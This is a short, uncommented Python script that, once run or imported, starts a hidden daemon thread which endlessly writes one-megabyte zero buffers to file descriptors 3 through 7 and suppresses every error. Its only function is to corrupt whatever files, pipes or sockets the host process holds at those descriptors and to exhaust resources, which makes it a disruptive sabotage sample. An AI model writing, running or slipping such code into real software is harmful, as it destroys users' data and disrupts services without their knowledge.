import os
import threading


def flood():
    while True:
        for descriptor in range(3, 8):
            try:
                os.write(descriptor, bytes(2**20))
            except OSError:
                pass


threading.Thread(target=flood, daemon=True).start()
